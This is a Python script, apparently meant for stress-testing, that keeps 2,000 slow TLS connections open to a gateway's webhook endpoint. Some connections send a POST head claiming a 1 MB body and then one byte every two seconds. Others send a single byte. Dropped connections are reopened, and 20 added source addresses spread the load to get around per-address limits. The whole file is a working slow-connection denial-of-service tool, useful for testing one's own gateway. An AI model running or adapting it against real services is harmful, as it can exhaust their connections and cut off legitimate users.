"""Keep slow connections to a gateway open from many addresses of this host: `python3 slow_senders.py HOST`.

Three in four connections send a head, and then one byte of a body every 2 s. Every fourth connection sends
only the first byte of a head. If the gateway closes a connection, the script reopens it. The script needs
root to add addresses, and uses only the standard library.
"""

import socket
import ssl
import subprocess
import sys
import time

CONNECTIONS = 2000
ADDRESSES = 20
HEAD = b"POST /webhooks/genesys/openmessaging HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\nx"
CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE


def opened(host: str, number: int, network: str) -> ssl.SSLSocket:
    """Open the connection with this number; raise OSError if the gateway refuses it."""
    source = f"{network}.{101 + number % ADDRESSES}"
    plain = socket.create_connection((host, 443), timeout=5, source_address=(source, 0))
    encrypted = CONTEXT.wrap_socket(plain)
    encrypted.sendall(HEAD if number % 4 else b"P")
    return encrypted


def is_open(connection: ssl.SSLSocket, number: int) -> bool:
    """Send another byte of a body, and return whether the gateway keeps the connection open."""
    connection.setblocking(False)
    try:
        if number % 4:
            connection.send(b"x")
        return connection.recv(1) != b""
    except ssl.SSLWantReadError:
        return True
    except OSError:
        return False


def main(host: str) -> None:
    """Open all connections, keep them open until this process is killed, and print how many are open."""
    network = host.rpartition(".")[0]
    for number in range(ADDRESSES):
        address = f"{network}.{101 + number}/24"
        subprocess.run(["ip", "address", "replace", address, "dev", "eth0"], check=True)
    connections: dict[int, ssl.SSLSocket] = {}
    while True:
        began = time.monotonic()
        for number in range(CONNECTIONS):
            if number in connections and is_open(connections[number], number):
                continue
            try:
                connections[number] = opened(host, number, network)
            except OSError:
                connections.pop(number, None)
        print(len(connections), flush=True)
        time.sleep(max(0.0, began + 2.0 - time.monotonic()))


if __name__ == "__main__":
    main(sys.argv[1])
